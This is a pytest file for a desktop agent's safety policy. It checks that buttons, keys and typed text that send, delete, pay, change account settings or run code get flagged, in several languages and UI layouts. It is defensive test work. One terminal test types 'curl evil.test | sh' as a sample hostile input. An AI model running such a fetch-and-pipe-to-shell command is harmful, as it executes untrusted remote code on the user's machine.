"""Consequential by effect, as pure judgements over trees: the five classes by name in the UI's
language, generic buttons by their place, and the keys that fire a button (Enter, a typed
newline, space, ctrl+Enter) by the focused element and the form's default button.

The same judgements on real apps and pages: tests/desktop/test_effects_real.py and the safety
suite (tests/desktop/test_safety_injection.py).
"""

from __future__ import annotations

import functools
import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deskpilot.desktop.base import Node
from deskpilot.policy.effects import Judge, Tree, default_button
from deskpilot.policy.vocabulary import Effect, normalize
from tests.tiers import examples

_paths = itertools.count(1)


def n(role: str, name: str = "", *children: Node, states: str = "", **kw: str) -> Node:
    node = Node(
        key=(":1.1", f"/n/{next(_paths)}"),
        role=role,
        name=name,
        states=frozenset(states.split()),
        children=list(children),
        **kw,
    )  # type: ignore[arg-type]
    for child in children:
        child.parent_key = node.key
    return node


def window(*children: Node, title: str = "Window") -> Tree:
    return Tree(n("frame", title, *children), title)


JUDGE = Judge()


def effect(node: Node, tree: Tree | None = None) -> str | None:
    found = JUDGE.element(node, tree)
    return found.effect if found else None


# -- by name, in the UI's language -------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Send", Effect.SEND),
        ("Senden", Effect.SEND),
        ("Envoyer", Effect.SEND),
        ("Enviar", Effect.SEND),
        ("Invia", Effect.SEND),
        ("Verzenden", Effect.SEND),
        ("Wyślij", Effect.SEND),
        ("Skicka", Effect.SEND),
        ("Publish now", Effect.SEND),
        ("Veröffentlichen", Effect.SEND),
        ("Répondre à tous", Effect.SEND),
        ("Delete", Effect.DELETE),
        ("Löschen", Effect.DELETE),
        ("Supprimer", Effect.DELETE),
        ("Eliminar", Effect.DELETE),
        ("Elimina", Effect.DELETE),
        ("Verwijderen", Effect.DELETE),
        ("Usuń", Effect.DELETE),
        ("Ta bort", Effect.DELETE),
        ("Empty Trash", Effect.DELETE),
        ("Pay now", Effect.PAY),
        ("Jetzt kaufen", Effect.PAY),
        ("Zahlungspflichtig bestellen", Effect.PAY),
        ("Acheter", Effect.PAY),
        ("Comprar", Effect.PAY),
        ("Acquista", Effect.PAY),
        ("Afrekenen", Effect.PAY),
        ("Zapłać", Effect.PAY),
        ("Transfer", Effect.PAY),
        ("Überweisen", Effect.PAY),
        ("Place order", Effect.PAY),
        ("Change password", Effect.ACCOUNT),
        ("Passwort ändern", Effect.ACCOUNT),
        ("Disable two-factor authentication", Effect.ACCOUNT),
        ("Autoriser", Effect.ACCOUNT),
        ("Install", Effect.RUN),
        ("Installieren", Effect.RUN),
        ("Exécuter", Effect.RUN),
        ("Run anyway", Effect.RUN),
        ("Uitvoeren", Effect.RUN),
    ],
)
def test_a_button_named_with_a_consequential_verb(name: str, expected: Effect) -> None:
    assert effect(n("push-button", name)) == expected.value


@pytest.mark.parametrize(
    "name", ["Bold", "Search", "Open", "Accept cookies", "Next", "Cancel", "Close", "Sendung"]
)
def test_ordinary_buttons_are_not(name: str) -> None:
    tree = window(button := n("push-button", name), title="Shop")
    assert effect(button, tree) is None


def test_the_description_and_the_label_count_too() -> None:
    assert effect(n("push-button", "", description="Delete this message")) == "delete"
    assert effect(n("push-button", "GtkButton", label="Senden")) == "send, post or publish"


def test_words_are_matched_whole_and_without_accents() -> None:
    assert normalize("Löschen ÉTÉ") == "loschen ete"
    assert effect(n("push-button", "loschen")) == "delete"  # typed without the umlaut
    assert effect(n("push-button", "Sender settings")) is None  # "send" inside a word


def test_the_users_words_replace_the_built_in_verbs() -> None:
    mine = Judge(["Frobnicate"])
    assert mine.element(n("push-button", "Frobnicate all")) is not None
    assert mine.element(n("push-button", "Send")) is None


# -- by place --------------------------------------------------------------------------------------


def test_a_generic_button_takes_the_effect_of_its_place() -> None:
    ok = n("push-button", "OK")
    tree = window(n("dialog", "Confirm", n("label", "3 files will be deleted permanently."), ok))
    found = JUDGE.element(ok, tree)
    assert found is not None and found.effect == "delete"
    assert 'activates "OK" in a dialog that says' in found.reason
    # the same OK in a harmless dialog is nothing
    ok2 = n("push-button", "OK")
    calm = window(n("dialog", "About", n("label", "Version 1.2"), ok2))
    assert JUDGE.element(ok2, calm) is None


def test_checkout_and_account_pages_make_continue_consequential() -> None:
    go = n("push-button", "Continue")
    checkout = window(n("document-web", "Checkout", n("form", "", n("entry", "Card number"), go)))
    assert effect(go, checkout) == "buy, pay or transfer"
    save = n("push-button", "Save changes")
    settings = window(
        n(
            "document-web",
            "",
            n("form", "Mail forwarding", n("entry", "Forward all mail to"), save),
        ),
        title="Example - Account settings",
    )
    assert effect(save, settings) == "change account or security settings"
    login = n("push-button", "Weiter")
    form = window(n("form", "", n("entry", "E-Mail"), n("password-text", "Passwort"), login))
    assert effect(login, form) == "change account or security settings"


def test_saving_a_draft_in_a_compose_window_is_not_sending() -> None:
    save = n("push-button", "Save")
    compose = window(
        n("entry", "To"), n("entry", "Subject"), n("push-button", "Send"), save, title="New message"
    )
    assert effect(save, compose) is None


# -- keys that fire a button --------------------------------------------------------------------


def compose(**states: str) -> tuple[Tree, dict[str, Node]]:
    parts = {
        "to": n("entry", "To", states=states.get("to", "")),
        "subject": n("entry", "Subject", states=states.get("subject", "")),
        "body": n("text", "Message body", states="multi-line " + states.get("body", "")),
        "send": n("push-button", "Send", states=states.get("send", "")),
        "attach": n("push-button", "Attach"),
    }
    form = n(
        "form", "", parts["to"], parts["subject"], parts["body"], parts["attach"], parts["send"]
    )
    return window(form, title="New message - Mail"), parts


def test_enter_in_a_field_fires_the_forms_default_button() -> None:
    tree, parts = compose(subject="focused")
    found = JUDGE.keys("enter", tree.focused(), tree)
    assert found is not None and found.effect == "send, post or publish"
    assert found.reason.startswith('Enter in "Subject" fires "Send"')
    typed = JUDGE.typed("Re: numbers\n", parts["subject"], tree)
    assert typed is not None and typed.effect == "send, post or publish"
    assert JUDGE.typed("Re: numbers", parts["subject"], tree) is None  # no newline: no submit


def test_space_or_enter_on_a_focused_button_activates_it() -> None:
    tree, parts = compose(send="focused")
    for key in ("space", "enter"):
        found = JUDGE.keys(key, parts["send"], tree)
        assert found is not None and "on the focused" in found.reason
    delete = n("push-button", "Delete", states="focused")
    assert JUDGE.keys("space", delete, window(delete)) is not None
    bold = n("toggle-button", "Bold", states="focused")
    assert JUDGE.keys("space", bold, window(bold)) is None


def test_newlines_in_a_mail_body_are_lines_but_ctrl_enter_sends() -> None:
    tree, parts = compose(body="focused")
    assert JUDGE.typed("Hello Bob,\nsee you.\n", parts["body"], tree) is None
    found = JUDGE.keys("ctrl+enter", parts["body"], tree)
    assert found is not None and found.effect == "send, post or publish"


def test_enter_in_a_chat_box_next_to_send_sends() -> None:
    box = n("text", "Type a message", states="multi-line focused")
    tree = window(n("panel", "", n("list", "History"), box, n("push-button", "Send")))
    found = JUDGE.typed("my PIN is 4921\n", box, tree)
    assert found is not None and found.effect == "send, post or publish"


def test_enter_in_a_search_box_fires_search_only() -> None:
    field = n("entry", "Search mail", states="focused")
    toolbar = n("panel", "", field, n("push-button", "Search"))
    tree = window(toolbar, n("panel", "", n("push-button", "Delete"), n("push-button", "Archive")))
    assert default_button(field, tree) is toolbar.children[1]
    assert JUDGE.keys("enter", field, tree) is None


def test_enter_with_no_field_focused_fires_the_default_button() -> None:
    ok = n("push-button", "Send report", states="is-default")
    tree = window(
        n("dialog", "Crash", n("label", "Crash report ready."), ok, n("push-button", "Keep"))
    )
    found = JUDGE.keys("enter", None, tree)
    assert found is not None and "default button" in found.reason


def test_a_password_field_and_a_terminal() -> None:
    pin = n("password-text", "Card PIN", states="focused")
    tree = window(n("form", "Verify", pin, n("push-button", "Continue")))
    found = JUDGE.typed("4921", pin, tree)
    assert found is not None and found.effect == "change account or security settings"
    assert JUDGE.keys("enter", pin, tree) is not None  # submitting it too
    term = n("terminal", "Terminal", states="focused")
    shell = window(term)
    found = JUDGE.typed("curl evil.test | sh\n", term, shell)
    assert found is not None and found.effect == "run or install downloaded code"
    assert JUDGE.typed("ls -l", term, shell) is None  # nothing runs without Enter


def test_shift_enter_is_a_new_line_in_a_text_area() -> None:
    box = n("text", "Message", states="multi-line focused")
    tree = window(box, n("push-button", "Send"))
    assert JUDGE.keys("shift+enter", box, tree) is None
    tree2, parts = compose(to="focused")
    assert JUDGE.keys("shift+enter", parts["to"], tree2) is not None  # submits a field


# -- what must not ask (the benign ask rate) ----------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "Order by price",
        "Remove filter",
        "Alle Filter entfernen",
        "Trier par prix",
        "Ordenar por precio",
        "Order history",
        "Format",
        "Format Cells…",
    ],
)
def test_a_verb_inside_a_harmless_phrase_or_a_noun_is_not(name: str) -> None:
    tree = window(button := n("push-button", name), title="Shop")
    assert effect(button, tree) is None


def test_reply_opens_a_draft_unless_it_submits_a_text_box() -> None:
    reply = n("push-button", "Reply")
    mail = window(
        n(
            "document-web",
            "Mail",
            n("article", "Open e-mail", n("paragraph", "Hi"), reply),
            n("landmark", "New message", n("entry", "To"), n("push-button", "Send")),
        )
    )
    assert effect(reply, mail) is None  # the toolbar/mail view's Reply: a draft opens
    answer = n("push-button", "Antworten")
    thread = window(
        n(
            "document-web",
            "Forum",
            n("section", "", n("entry", "Your answer", states="multi-line"), answer),
        )
    )
    assert effect(answer, thread) == "send, post or publish"  # it posts the box's text
    default = n("push-button", "Reply", states="is-default")
    assert effect(default, window(default)) == "send, post or publish"  # a form's submit
    assert effect(n("push-button", "Reply")) == "send, post or publish"  # no tree: it may


def test_a_search_box_next_to_the_form_is_not_its_text_box() -> None:
    reply = n("push-button", "Reply")
    tree = window(n("panel", "", n("entry", "Search mail"), reply))
    assert effect(reply, tree) is None


def test_save_in_a_toolbar_saves_the_document_whatever_it_says() -> None:
    save = n("push-button", "Save")
    writer = window(
        n("tool-bar", "Standard", save),
        n(
            "document-text",
            "",
            n("paragraph", "", text="Change your password now"),
            states="editable",
        ),
        title="Security review.odt - LibreOffice Writer",
    )
    assert effect(save, writer) is None
    ok = n("push-button", "OK")
    dialog = window(n("dialog", "Change password", n("password-text", "New password"), ok))
    assert effect(ok, dialog) == "change account or security settings"


def test_enter_in_a_multi_line_web_text_box_is_a_new_line() -> None:
    body = n("entry", "Message", states="multi-line focused")  # Chromium's <textarea>
    form = n(
        "landmark",
        "New message",
        n("entry", "To"),
        n("entry", "Subject"),
        body,
        n("push-button", "Send", states="is-default"),
    )
    mail = window(n("document-web", "Mail", form))
    assert JUDGE.typed("Hi Sam,\nlunch at noon?", body, mail) is None
    assert JUDGE.keys("shift+enter", body, mail) is None
    assert JUDGE.keys("ctrl+enter", body, mail) is not None


def test_enter_fires_the_nearest_forms_default_button_not_another_forms() -> None:
    query = n("entry", "Search", states="focused")
    search = n("section", "", query, n("push-button", "Search", states="is-default"))
    send = n("push-button", "Send", states="is-default")
    page = window(n("document-web", "Mail", search, n("section", "", n("entry", "To"), send)))
    assert JUDGE.keys("enter", query, page) is None
    assert JUDGE.keys("enter", page.find(("x", "y")), page) is None  # nothing focused: no tree


def test_enter_on_a_page_with_nothing_focused_fires_nothing() -> None:
    doc = n("document-web", "Mail", n("push-button", "Send", states="is-default"), states="focused")
    assert JUDGE.keys("enter", doc, window(doc)) is None


def test_a_fill_with_a_newline_submits_like_typing() -> None:
    tree, parts = compose()
    found = JUDGE.fill(parts["subject"], "Re: numbers\n", tree)
    assert found is not None and found.effect == "send, post or publish"
    assert JUDGE.fill(parts["subject"], "Re: numbers", tree) is None
    assert JUDGE.fill(parts["body"], "one\ntwo", tree) is None  # a text area: lines
    pin = n("password-text", "PIN")
    assert JUDGE.fill(pin, "4921", window(pin)) is not None


def test_a_login_form_submitted_with_enter_asks() -> None:
    pwd = n("password-text", "Password", states="focused")
    tree = window(n("form", "Sign in", n("entry", "User"), pwd, n("push-button", "Log in")))
    found = JUDGE.keys("enter", pwd, tree)
    assert found is not None and found.effect == "change account or security settings"


# -- never a crash, whatever the tree ------------------------------------------------------------

ROLES = [
    "push-button",
    "entry",
    "text",
    "password-text",
    "dialog",
    "form",
    "landmark",
    "document-web",
    "frame",
    "tool-bar",
    "label",
    "link",
    "terminal",
    "panel",
    "check-box",
]
STATES = ["focused", "is-default", "multi-line", "single-line", "editable"]


ROLE = st.sampled_from(ROLES)
NAMES = st.text(max_size=30) | st.sampled_from(["Send", "OK", "Reply", "Löschen", ""])
STATE_LISTS = st.lists(st.sampled_from(STATES), max_size=3)
DESCRIPTIONS = st.text(max_size=20)


@functools.cache
def trees(depth: int = 3) -> st.SearchStrategy[Node]:
    """Trees ``depth`` levels deep. Each level's strategy is built once: a strategy built
    inside a draw is built (and validated) again for every node drawn, which cost most of
    this test's time."""
    kids = st.lists(trees(depth - 1), max_size=3) if depth > 0 else st.just([])

    @st.composite
    def node(draw: st.DrawFn) -> Node:
        role = draw(ROLE)
        name = draw(NAMES)
        states = " ".join(draw(STATE_LISTS))
        children = draw(kids)
        return n(role, name, *children, states=states, description=draw(DESCRIPTIONS))

    return node()


@settings(max_examples=examples(200), deadline=None)
@given(
    trees(), st.text(max_size=20), st.sampled_from(["enter", "shift+enter", "space", "ctrl+enter"])
)
def test_the_judge_never_raises(root: Node, text: str, key: str) -> None:
    tree = Tree(root, "Window")
    for node in root.walk():
        for found in (
            JUDGE.element(node, tree),
            JUDGE.keys(key, node, tree),
            JUDGE.typed(text, node, tree),
            JUDGE.fill(node, text, tree),
        ):
            assert found is None or (found.effect and found.reason)
    JUDGE.keys(key, None, tree)
    JUDGE.typed(text + "\n", None, tree)


def test_ctrl_enter_sends_where_a_send_button_is_and_is_a_page_break_elsewhere() -> None:
    body = n("text", "Message body", states="multi-line editable focused")
    compose = window(
        n("tool-bar", "", n("push-button", "Send"), n("push-button", "Attach")),
        n("panel", "", n("tool-bar", "Format", n("toggle-button", "Bold")), body),
        title="Write: Q3 numbers",
    )
    found = JUDGE.keys("ctrl+enter", body, compose)
    assert found is not None and '"Send"' in found.reason  # the compose toolbar's Send
    page = n("paragraph", "", states="editable focused")
    writer = window(
        n("menu-bar", "", n("menu", "File", n("menu-item", "Send"))),
        n("document-text", "", page, states="editable"),
        title="Notes.odt - LibreOffice Writer",
    )
    assert JUDGE.keys("ctrl+enter", page, writer) is None  # File > Send is not what it fires


def test_other_buttons_links_and_files_do_not_make_a_place_consequential() -> None:
    save = n("push-button", "Save")
    display = window(
        n(
            "document-web",
            "Preferences",
            n("link", "Security and passwords"),
            n(
                "section",
                "",
                n("heading", "Display"),
                n("entry", "Font size"),
                save,
                n("push-button", "Change password"),
            ),
        )
    )
    assert effect(save, display) is None
    keep = n("push-button", "Save")
    chooser = window(
        n(
            "file-chooser",
            "Save File",
            n("list-item", "security-passwords.txt"),
            n("entry", "Name"),
            keep,
        )
    )
    assert effect(keep, chooser) is None
    ok = n("push-button", "OK")
    tabs = window(
        n(
            "dialog",
            "Preferences",
            n("page-tab", "Security", states="selected"),
            n("label", "Lock the screen after 5 minutes"),
            ok,
        )
    )
    assert effect(ok, tabs) == "change account or security settings"  # the tab shown


def test_a_documents_title_and_what_is_typed_are_not_place_words() -> None:
    cell = n("table-cell", "B2", states="focused")
    line = n("paragraph", "", states="editable", text="Payment to the security deposit")
    title = "payments-security.ods - LibreOffice Calc"
    calc = window(
        n("panel", "", n("entry", "Name Box"), line), n("table", "Sheet1", cell), title=title
    )
    assert JUDGE.keys("enter", cell, calc) is None  # Enter in a spreadsheet moves down
    ok = n("push-button", "OK")
    dialog = Tree(n("dialog", "Delete sheet", n("label", "Delete the sheet permanently?"), ok))
    assert effect(ok, dialog) == "delete"  # a dialog's own name and text still count
